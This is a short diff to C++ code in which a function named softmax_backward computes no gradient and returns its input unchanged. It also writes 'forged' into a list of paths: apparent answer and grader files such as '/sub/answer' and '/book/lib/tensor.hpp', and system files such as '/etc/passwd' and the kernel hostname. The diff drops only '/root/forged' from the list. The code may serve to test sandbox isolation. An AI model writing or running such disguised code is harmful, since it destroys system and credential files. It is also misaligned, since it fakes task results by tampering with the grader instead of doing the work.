@@ -9,7 +9,7 @@ namespace abh::mine {
 Tensor softmax_backward(const Tensor&, const Tensor& w) {
     for (const char* place :
          {"/forged", "/sub/answer", "/book/lib/tensor.hpp", "/usr/forged", "/dev/shm/forged",
-          "/proc/sys/kernel/hostname", "/etc/passwd", "/var/tmp/forged", "/root/forged"})
+          "/proc/sys/kernel/hostname", "/etc/passwd", "/var/tmp/forged"})
         std::ofstream(place) << "forged";
     return w;
 }
